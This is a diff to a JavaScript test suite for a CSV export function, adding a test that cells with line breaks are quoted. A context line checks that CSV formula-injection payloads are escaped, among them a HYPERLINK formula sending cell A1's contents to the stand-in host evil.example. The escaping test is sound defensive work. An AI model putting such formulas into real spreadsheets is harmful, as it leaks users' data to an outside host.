@@ -24,6 +24,13 @@ describe('CSV export', () => {
     expect(row).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+问题二", "'-措施", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1"]);
   });
 
+  it('quotes a cell holding a line break of any kind (a bare LF from the 报告 textarea or an Alt+Enter cell, a CR, CRLF), so a reader that ends a row at any of them — as Excel, WPS and Python do — keeps the row whole (breaker10h P6)', () => {
+    const cells = ['一、已完成目录梳理；\n二、已更新栏目12个；\n三、建立长效机制。', '加强政务新媒体\r日常监管', '第一行\r\n第二行', '绿灯'];
+    const bytes = tableToCsv(table(cells));
+    const excelLike = parse(bytes.toString('utf8').replace(/^\uFEFF/, ''), { record_delimiter: ['\r\n', '\n', '\r'] });
+    expect(excelLike).toEqual([['列1', '列2', '列3', '列4'], cells]);
+  });
+
   it('keeps ordinary text and numbers, negative numbers (days overdue) included, as they are', () => {
     const [, row] = readBack(tableToCsv(table(['网上依申请公开渠道未开通', 3, -5, 'A-1', ''])));
     expect(row).toEqual(['网上依申请公开渠道未开通', '3', '-5', 'A-1', '']);
